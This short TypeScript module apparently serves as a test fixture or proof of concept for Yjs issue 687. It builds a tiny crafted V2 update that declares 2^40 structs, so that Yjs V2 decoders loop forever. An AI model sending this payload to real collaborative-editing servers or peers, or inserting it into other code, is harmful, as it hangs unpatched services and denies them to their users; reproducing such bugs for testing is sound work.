import * as encoding from "lib0/encoding"
import * as Y from "yjs"

/**
 * A V2 update of less than 30 bytes that keeps V2 decoders busy for ever (yjs issue 687): one client, more structs than there are, each a
 * GC of length 1, since V2's run lengths give the last value for ever.
 */
export const endlessUpdate = (): Uint8Array => {
  const encoder = new Y.UpdateEncoderV2()
  for (const number of [1, 2 ** 40]) encoding.writeVarUint(encoder.restEncoder, number)
  encoder.writeClient(7)
  encoding.writeVarUint(encoder.restEncoder, 0)
  encoder.writeInfo(0)
  encoder.writeLen(1)
  return encoder.toUint8Array()
}
